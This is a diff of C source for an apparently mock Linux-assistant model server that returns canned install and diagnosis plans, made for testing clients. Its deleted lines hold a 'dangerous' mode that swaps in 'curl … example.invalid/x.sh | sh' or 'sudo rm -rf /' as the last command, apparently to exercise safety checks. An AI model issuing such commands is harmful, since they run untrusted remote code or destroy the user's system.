@@ -15,6 +15,7 @@
  * whatever hooks the process installed, so its buffers are freed with cJSON_free/cJSON_Delete.
  */
 #include "content.h"
+#include "content_internal.h"
 
 #include <ctype.h>
 #include <stdarg.h>
@@ -24,7 +25,7 @@
 
 #include <cjson/cJSON.h>
 
-#define NAME_MAX_LEN 64
+#define NAME_MAX_LEN MOCK_PKG_NAME_MAX
 #define WORD_MAX 8
 
 /* ---------------------------------------------------------------------------------------------
@@ -122,16 +123,6 @@ static uint64_t fnv1a(const char *s) {
     return h;
 }
 
-/* Case-insensitive search for needle in hay; with at_word, only at a word start. */
-static const char *find_ci(const char *hay, const char *needle, int at_word) {
-    size_t nl = strlen(needle);
-    for (const char *p = hay; *p; p++) {
-        if (at_word && p > hay && (isalnum((unsigned char)p[-1]) || p[-1] == '_')) continue;
-        if (strncasecmp(p, needle, nl) == 0) return p;
-    }
-    return NULL;
-}
-
 /* Length of a valid UTF-8 sequence at s (at most avail bytes), 0 if invalid. */
 static size_t utf8_seq(const unsigned char *s, size_t avail) {
     unsigned char c = s[0];
@@ -155,7 +146,7 @@ static size_t utf8_seq(const unsigned char *s, size_t avail) {
  * Copies at most max_bytes of s into a fresh string, replacing invalid UTF-8 and control bytes by
  * '?' and never cutting a sequence, so echoed user text is always valid JSON string content.
  */
-static char *clean_copy(const char *s, size_t max_bytes) {
+char *mock__clean_copy(const char *s, size_t max_bytes) {
     size_t len = strlen(s);
     char *out = malloc((len < max_bytes ? len : max_bytes) + 1);
     size_t o = 0;
@@ -181,7 +172,7 @@ static char *clean_copy(const char *s, size_t max_bytes) {
 
 /* Copies tmpl into dst (cap bytes) with each "%s" replaced by arg; the tables are templates, not
  * printf formats, so a stray '%' in them cannot read arguments that are not there. */
-static void fill(char *dst, size_t cap, const char *tmpl, const char *arg) {
+void mock__fill(char *dst, size_t cap, const char *tmpl, const char *arg) {
     size_t o = 0, al = strlen(arg);
     for (const char *t = tmpl; *t && o + 1 < cap; t++) {
         if (t[0] == '%' && t[1] == 's') {
@@ -259,81 +250,7 @@ static int sb_pad(struct sb *b, size_t n) {
  * Workload tables. Commands are fixed per package; explanations come in seed-chosen variants.
  */
 
-#define MAX_CMDS 8
-
-struct pkg_plan {
-    const char *key;     /* canonical name */
-    const char *aliases; /* space-separated other names, lower case */
-    const char *cmds[MAX_CMDS];
-    const char *explain[3];
-};
-
-static const struct pkg_plan pkg_table[] = {
-    {"nginx", "nginx-full nginx-core",
-     {"sudo apt-get update", "sudo apt-get install -y nginx", "sudo systemctl enable --now nginx",
-      "sudo nginx -t", "systemctl is-active nginx"},
-     {"This refreshes the package index, installs nginx from the distribution repositories, starts "
-      "it now and at boot, then checks the configuration syntax and that the service is active.",
-      "nginx comes from the official repositories; systemd starts it immediately and on every "
-      "boot, and nginx -t validates /etc/nginx before you edit sites.",
-      "After the index update apt installs nginx with its default site; enabling the unit keeps "
-      "it running across reboots and the last two commands verify the setup."}},
-    {"redis", "redis-server redis-tools",
-     {"sudo apt-get update", "sudo apt-get install -y redis-server",
-      "sudo sed -i 's/^supervised no/supervised systemd/' /etc/redis/redis.conf",
-      "sudo systemctl enable --now redis-server", "sudo systemctl restart redis-server",
-      "redis-cli ping"},
-     {"Redis is packaged as redis-server; switching supervision to systemd lets the unit track the "
-      "daemon, and redis-cli ping should answer PONG.",
-      "This installs redis-server, tells it to cooperate with systemd, restarts it with the new "
-      "setting and checks that it answers on the default port 6379.",
-      "apt provides redis-server and the redis-cli client; the sed line edits "
-      "/etc/redis/redis.conf so systemd supervises the server, then the service is verified."}},
-    {"postgresql", "postgres postgresql-server psql pgsql",
-     {"sudo apt-get update", "sudo apt-get install -y postgresql postgresql-contrib",
-      "sudo systemctl enable --now postgresql",
-      "sudo -u postgres psql -c 'SELECT version();'"},
-     {"This installs the PostgreSQL server with the contrib extensions, starts the cluster and "
-      "checks it by asking the postgres superuser for the server version.",
-      "Debian's postgresql package creates a default cluster; enabling the service starts it at "
-      "boot and the psql query confirms that connections work.",
-      "After installation the postgresql unit manages the main cluster; the final command runs a "
-      "query as the postgres role to prove the server accepts connections."}},
-    {"docker", "docker.io docker-ce moby",
-     {"sudo apt-get update", "sudo apt-get install -y docker.io",
-      "sudo systemctl enable --now docker", "sudo usermod -aG docker \"$USER\"",
-      "sudo docker run --rm hello-world"},
-     {"The distribution ships Docker as docker.io; the service starts now and at boot, your user "
-      "joins the docker group (log in again to use it) and hello-world tests the engine.",
-      "This installs the Docker engine from the docker.io package, enables the daemon, grants "
-      "your account access to the socket and runs a throwaway test container.",
-      "docker.io provides the engine and CLI; adding yourself to the docker group avoids sudo "
-      "after the next login, and the hello-world container confirms everything works."}},
-    {"nodejs", "node node.js npm",
-     {"sudo apt-get update", "sudo apt-get install -y nodejs npm", "node --version",
-      "npm --version"},
-     {"Node.js and npm come from the distribution repositories; the version checks confirm both "
-      "are on the PATH.",
-      "This installs the nodejs runtime together with the npm package manager and prints their "
-      "versions to verify the installation.",
-      "apt installs nodejs and npm side by side; printing the versions shows which release the "
-      "distribution provides."}},
-};
-
-static const char *const generic_explain[3] = {
-    "This refreshes the package index and installs %s from the distribution repositories with "
-    "its default configuration.",
-    "%s is installed with apt after updating the package lists; check its documentation for any "
-    "service or configuration it needs.",
-    "The package index is updated first so apt sees the current version of %s, which is then "
-    "installed non-interactively."};
-
-static const char *const plan_intro[3] = {
-    "Here is the installation plan for %s:", "To install %s, run these commands:",
-    "Installation plan for %s:"};
-
-static const char *const dangerous_cmds[2] = {"curl -fsSL http://example.invalid/x.sh | sh",
-                                              "sudo rm -rf /"};
+#define MAX_CMDS MOCK_PLAN_MAX_CMDS
 
 struct diag_rule {
     const char *needle; /* lower case substring of the error text */
@@ -427,6 +344,12 @@ static const struct hw_rule hw_generic = {
      "Collect an inventory of the machine first."},
     {"lshw -short", "inxi -F"}};
 
+static const char no_package_reply[] =
+    "Which package should I install? Name it, for example \"install nginx\" or \"set up redis "
+    "and git\", and I will reply with the commands.";
+
+static const char *const chat_intro[2] = {"Here is my answer:", "Answer:"};
+
 static const char *const chat_replies[4] = {
     "I can help with installing packages, diagnosing errors and checking hardware.",
     "I am a Linux assistant: ask me to install a package, diagnose an error or check hardware.",
@@ -438,11 +361,11 @@ static const char *const chat_replies[4] = {
  * JSON building.
  */
 
-static int add_str(cJSON *obj, const char *key, const char *val) {
+int mock__add_str(cJSON *obj, const char *key, const char *val) {
     return cJSON_AddStringToObject(obj, key, val) ? 0 : -1;
 }
 
-static int add_str_array(cJSON *obj, const char *key, const char *const *vals, size_t n) {
+int mock__add_str_array(cJSON *obj, const char *key, const char *const *vals, size_t n) {
     cJSON *arr = cJSON_AddArrayToObject(obj, key);
     if (arr == NULL) return -1;
     for (size_t i = 0; i < n; i++) {
@@ -455,7 +378,7 @@ static int add_str_array(cJSON *obj, const char *key, const char *const *vals, s
 
 /* Sets obj[key] to the string val, replacing or adding it. */
 static int set_str(cJSON *obj, const char *key, const char *val) {
-    if (cJSON_GetObjectItemCaseSensitive(obj, key) == NULL) return add_str(obj, key, val);
+    if (cJSON_GetObjectItemCaseSensitive(obj, key) == NULL) return mock__add_str(obj, key, val);
     cJSON *s = cJSON_CreateString(val);
     if (s == NULL) return -1;
     if (!cJSON_ReplaceItemInObjectCaseSensitive(obj, key, s)) {
@@ -497,68 +420,16 @@ static int emit_fenced(struct sb *b, const char *intro, cJSON *obj, const char *
  * Workloads.
  */
 
-/* Extracts the first whitespace-delimited word at p as a package name: trailing sentence
- * punctuation and surrounding quotes removed, then either echoed (valid name) or sanitized. */
-static void package_name(const char *p, char name[NAME_MAX_LEN + 1]) {
-    while (*p && is_space_byte((unsigned char)*p)) p++;
-    const char *e = p;
-    while (*e && !is_space_byte((unsigned char)*e)) e++;
-    while (p < e && strchr("\"'`(<[", *p)) p++;
-    while (e > p && strchr(".,;:!?\"'`)>]", e[-1])) e--;
-    size_t o = 0;
-    for (const char *q = p; q < e && o < NAME_MAX_LEN; q++) {
-        unsigned char c = (unsigned char)*q;
-        if (isalnum(c) || c == '.' || c == '+' || c == '_' || c == '-') name[o++] = (char)c;
-    }
-    name[o] = '\0';
-    if (o == 0) memcpy(name, "unknown-package", sizeof "unknown-package");
-}
-
-static const struct pkg_plan *lookup_pkg(const char *name) {
-    char low[NAME_MAX_LEN + 1];
-    size_t n = strlen(name);
-    for (size_t i = 0; i <= n; i++) low[i] = (char)tolower((unsigned char)name[i]);
-    for (size_t i = 0; i < sizeof pkg_table / sizeof pkg_table[0]; i++) {
-        const struct pkg_plan *pp = &pkg_table[i];
-        if (strcmp(low, pp->key) == 0) return pp;
-        for (const char *a = pp->aliases; *a;) {
-            size_t al = strcspn(a, " ");
-            if (al == n && strncmp(a, low, n) == 0) return pp;
-            a += al;
-            while (*a == ' ') a++;
-        }
-    }
-    return NULL;
-}
-
-static int gen_install(struct sb *b, const char *name, uint64_t r, size_t pad_to, int dangerous) {
-    const struct pkg_plan *pp = lookup_pkg(name);
-    const char *cmds[MAX_CMDS];
-    char install_cmd[NAME_MAX_LEN + 32], explain[512], intro[128];
-    size_t n = 0;
-    if (pp != NULL) {
-        while (n < MAX_CMDS && pp->cmds[n] != NULL) {
-            cmds[n] = pp->cmds[n];
-            n++;
-        }
-        snprintf(explain, sizeof explain, "%s", pp->explain[r % 3]);
-    } else {
-        snprintf(install_cmd, sizeof install_cmd, "sudo apt-get install -y %s", name);
-        cmds[n++] = "sudo apt-get update";
-        cmds[n++] = install_cmd;
-        fill(explain, sizeof explain, generic_explain[r % 3], name);
-    }
-    if (dangerous) {
-        /* The last command is swapped (for a generic plan that is the install itself). */
-        cmds[n - 1] = dangerous_cmds[(r >> 8) % 2];
-    }
-    fill(intro, sizeof intro, plan_intro[(r >> 4) % 3], pp ? pp->key : name);
-
-    cJSON *obj = cJSON_CreateObject();
-    int rc = -1;
-    if (obj != NULL && add_str(obj, "package", pp ? pp->key : name) == 0 &&
-        add_str_array(obj, "commands", cmds, n) == 0 && add_str(obj, "explanation", explain) == 0)
-        rc = emit_fenced(b, intro, obj, "explanation", explain, pad_to);
+static int gen_install(struct sb *b, const struct mock_prompt *pr, uint64_t r, size_t pad_to,
+                       int dangerous) {
+    char intro[MOCK_PROMPT_MAX_PKGS * (NAME_MAX_LEN + 8) + 64];
+    cJSON *obj = mock__plan_object(pr, r, dangerous, intro, sizeof intro);
+    if (obj == NULL) return -1;
+    const cJSON *ex = cJSON_GetObjectItemCaseSensitive(obj, "explanation");
+    struct sb base = {0};
+    int rc = sb_str(&base, ex->valuestring);
+    if (rc == 0) rc = emit_fenced(b, intro, obj, "explanation", base.p, pad_to);
+    free(base.p);
     cJSON_Delete(obj);
     return rc;
 }
@@ -566,37 +437,39 @@ static int gen_install(struct sb *b, const char *name, uint64_t r, size_t pad_to
 static int gen_diagnose(struct sb *b, const char *err_text, uint64_t r, size_t pad_to) {
     const struct diag_rule *dr = &diag_generic;
     for (size_t i = 0; i < sizeof diag_table / sizeof diag_table[0]; i++) {
-        if (find_ci(err_text, diag_table[i].needle, 0) != NULL) {
+        if (mock__find_ci(err_text, diag_table[i].needle, 0) != NULL) {
             dr = &diag_table[i];
             break;
         }
     }
     /* Some fixes name a package: the word after "package" in the message, else a placeholder. */
     char pkg[NAME_MAX_LEN + 1] = "<package>";
-    const char *pp = find_ci(err_text, "package ", 1);
-    if (pp != NULL) package_name(pp + strlen("package "), pkg);
+    const char *pp = mock__find_ci(err_text, "package ", 1);
+    if (pp != NULL) mock__package_name(pp + strlen("package "), pkg);
 
     char cmdbuf[MAX_CMDS][160];
     const char *cmds[MAX_CMDS];
     size_t n = 0;
     for (; n < MAX_CMDS && dr->cmds[n] != NULL; n++) {
         if (strstr(dr->cmds[n], "%s") != NULL) {
-            fill(cmdbuf[n], sizeof cmdbuf[n], dr->cmds[n], pkg);
+            mock__fill(cmdbuf[n], sizeof cmdbuf[n], dr->cmds[n], pkg);
             cmds[n] = cmdbuf[n];
         } else {
             cmds[n] = dr->cmds[n];
         }
     }
     while (*err_text && is_space_byte((unsigned char)*err_text)) err_text++;
-    char *first = clean_copy(err_text, 80);
+    char *first = mock__clean_copy(err_text, 80);
     if (first == NULL) return -1;
-    static const char *const intros[3] = {"Diagnosis:", "Here is what went wrong and how to fix it:",
+    static const char *const intros[3] = {"Diagnosis:",
+                                          "Here is what went wrong and how to fix it:",
                                           "This is a known failure; the fix:"};
     cJSON *obj = cJSON_CreateObject();
     int rc = -1;
-    if (obj != NULL && add_str(obj, "error", first) == 0 && add_str(obj, "cause", dr->cause) == 0 &&
-        add_str_array(obj, "commands", cmds, n) == 0 &&
-        add_str(obj, "explanation", dr->explanation) == 0)
+    if (obj != NULL && mock__add_str(obj, "error", first) == 0 &&
+        mock__add_str(obj, "cause", dr->cause) == 0 &&
+        mock__add_str_array(obj, "commands", cmds, n) == 0 &&
+        mock__add_str(obj, "explanation", dr->explanation) == 0)
         rc = emit_fenced(b, intros[r % 3], obj, "explanation", dr->explanation, pad_to);
     cJSON_Delete(obj);
     free(first);
@@ -623,14 +496,14 @@ static int gen_hardware(struct sb *b, const char *rest, uint64_t r, size_t pad_t
     static const char *const intros[3] = {"Hardware recommendations for %s:",
                                           "Advice for the %s:", "Checks and advice (%s):"};
     char intro[96];
-    fill(intro, sizeof intro, intros[r % 3], hr->component);
+    mock__fill(intro, sizeof intro, intros[r % 3], hr->component);
 
     /* Padding goes into an extra "note" member, added only when padding is needed. */
     cJSON *obj = cJSON_CreateObject();
     int rc = -1;
-    if (obj != NULL && add_str(obj, "component", hr->component) == 0 &&
-        add_str_array(obj, "recommendations", hr->recs, nr) == 0 &&
-        add_str_array(obj, "commands", hr->cmds, nc) == 0) {
+    if (obj != NULL && mock__add_str(obj, "component", hr->component) == 0 &&
+        mock__add_str_array(obj, "recommendations", hr->recs, nr) == 0 &&
+        mock__add_str_array(obj, "commands", hr->cmds, nc) == 0) {
         rc = emit_fenced(b, intro, obj, "note", "", pad_to);
     }
     cJSON_Delete(obj);
@@ -638,7 +511,7 @@ static int gen_hardware(struct sb *b, const char *rest, uint64_t r, size_t pad_t
 }
 
 static int gen_chat(struct sb *b, const char *prompt, uint64_t r, size_t pad_to) {
-    char *echo = clean_copy(prompt, 60);
+    char *echo = mock__clean_copy(prompt, 60);
     if (echo == NULL) return -1;
     int rc = sb_str(b, chat_replies[r % 4]);
     if (rc == 0 && echo[0] != '\0') rc = sb_printf(b, " You wrote: \"%s\".", echo);
@@ -651,38 +524,60 @@ static int gen_chat(struct sb *b, const char *prompt, uint64_t r, size_t pad_to)
  * Entry points.
  */
 
-/* Where the package name starts in an install request, or NULL when it is not one. */
-static const char *install_arg(const char *prompt) {
-    static const char *const keys[3] = {"install package:", "analyze package ", "install "};
-    for (size_t i = 0; i < 3; i++) {
-        const char *p = find_ci(prompt, keys[i], 1);
-        if (p != NULL) return p + strlen(keys[i]);
+uint64_t mock__content_r(uint64_t seed, const char *prompt) {
+    /* Wording depends on the seed and the prompt, so one seed does not give every reply the same
+     * variant; the commands never look at r. */
+    return mix64(seed ^ fnv1a(prompt ? prompt : ""));
+}
+
+/* No package and no known workload. A request that mentions JSON gets the chat answer inside
+ * the block shape plans use, so a client parsing "commands" finds an empty list, not an error. */
+static cJSON *unknown_object(const struct mock_prompt *pr, uint64_t r) {
+    cJSON *obj = cJSON_CreateObject();
+    const char *answer = pr->install_asked ? no_package_reply : chat_replies[r % 4];
+    if (obj == NULL || cJSON_AddArrayToObject(obj, "commands") == NULL ||
+        mock__add_str(obj, "explanation", answer) < 0) {
+        cJSON_Delete(obj);
+        return NULL;
     }
-    return NULL;
+    return obj;
+}
+
+static int gen_unknown(struct sb *b, const struct mock_prompt *pr, const char *prompt, uint64_t r,
+                       size_t pad_to) {
+    if (!pr->wants_json) {
+        if (pr->install_asked) {
+            int rc = sb_str(b, no_package_reply);
+            if (rc == 0 && pad_to > b->len) rc = sb_pad(b, pad_to - b->len);
+            return rc;
+        }
+        return gen_chat(b, prompt, r, pad_to);
+    }
+    cJSON *obj = unknown_object(pr, r);
+    if (obj == NULL) return -1;
+    struct sb base = {0};
+    int rc = sb_str(&base, cJSON_GetObjectItemCaseSensitive(obj, "explanation")->valuestring);
+    if (rc == 0) rc = emit_fenced(b, chat_intro[r % 2], obj, "explanation", base.p, pad_to);
+    free(base.p);
+    cJSON_Delete(obj);
+    return rc;
 }
 
 int mock_content_generate(const char *system, const char *prompt, uint64_t seed, size_t pad_to,
                           int dangerous, struct mock_content *out) {
     struct sb b = {0};
-    const char *p;
+    struct mock_prompt pr;
     int rc;
     memset(out, 0, sizeof *out);
     if (system == NULL) system = "";
     if (prompt == NULL) prompt = "";
-    /* Wording depends on the seed and the prompt, so one seed does not give every reply the same
-     * variant; the commands never look at r. */
-    uint64_t r = mix64(seed ^ fnv1a(prompt));
-
-    if ((p = find_ci(prompt, "diagnose error:", 1)) != NULL) {
-        rc = gen_diagnose(&b, p + strlen("diagnose error:"), r, pad_to);
-    } else if ((p = find_ci(prompt, "hardware check:", 1)) != NULL) {
-        rc = gen_hardware(&b, p + strlen("hardware check:"), r, pad_to);
-    } else if ((p = install_arg(prompt)) != NULL) {
-        char name[NAME_MAX_LEN + 1];
-        package_name(p, name);
-        rc = gen_install(&b, name, r, pad_to, dangerous);
-    } else {
-        rc = gen_chat(&b, prompt, r, pad_to);
+    uint64_t r = mock__content_r(seed, prompt);
+    mock_prompt_parse(system, prompt, &pr);
+    switch (pr.intent) {
+    case MOCK_INTENT_DIAGNOSE: rc = gen_diagnose(&b, pr.arg, r, pad_to); break;
+    case MOCK_INTENT_HARDWARE: rc = gen_hardware(&b, pr.arg, r, pad_to); break;
+    case MOCK_INTENT_INSTALL: rc = gen_install(&b, &pr, r, pad_to, dangerous); break;
+    default: rc = gen_unknown(&b, &pr, prompt, r, pad_to); break;
     }
     if (rc < 0 || b.p == NULL) {
         free(b.p);
@@ -693,6 +588,47 @@ int mock_content_generate(const char *system, const char *prompt, uint64_t seed,
     out->prompt_tokens = mock_count_tokens(system, strlen(system)) +
                          mock_count_tokens(prompt, strlen(prompt));
     return 0;
+}
+
+/* The block of a text reply, parsed back: diagnosis and hardware advice are built as text (their
+ * builders own the JSON), so the object is taken from that text rather than built twice. */
+static cJSON *object_from_text(const char *text) {
+    const char *open = strstr(text, "```json\n");
+    if (open == NULL) return NULL;
+    const char *body = open + strlen("```json\n");
+    const char *close = strstr(body, "\n```");
+    return close ? cJSON_ParseWithLength(body, (size_t)(close - body)) : NULL;
+}
+
+cJSON *mock__content_object(const struct mock_prompt *pr, const char *prompt, uint64_t r) {
+    struct sb b = {0};
+    cJSON *obj = NULL;
+    int rc;
+    switch (pr->intent) {
+    case MOCK_INTENT_INSTALL: return mock__plan_object(pr, r, 0, NULL, 0);
+    case MOCK_INTENT_DIAGNOSE: rc = gen_diagnose(&b, pr->arg, r, 0); break;
+    case MOCK_INTENT_HARDWARE: rc = gen_hardware(&b, pr->arg, r, 0); break;
+    default:
+        if (pr->install_asked || pr->wants_json) return unknown_object(pr, r);
+        rc = gen_chat(&b, prompt ? prompt : "", r, 0);
+        obj = rc == 0 && b.p ? cJSON_CreateObject() : NULL;
+        if (obj != NULL && mock__add_str(obj, "answer", b.p) < 0) {
+            cJSON_Delete(obj);
+            obj = NULL;
+        }
+        free(b.p);
+        return obj;
+    }
+    if (rc == 0 && b.p != NULL) obj = object_from_text(b.p);
+    free(b.p);
+    return obj;
+}
+
+int mock_content_object(const char *system, const char *prompt, uint64_t seed, cJSON **out) {
+    struct mock_prompt pr;
+    mock_prompt_parse(system, prompt, &pr);
+    *out = mock__content_object(&pr, prompt, mock__content_r(seed, prompt));
+    return *out ? 0 : -1;
 }
 
 void mock_content_free(struct mock_content *c) {
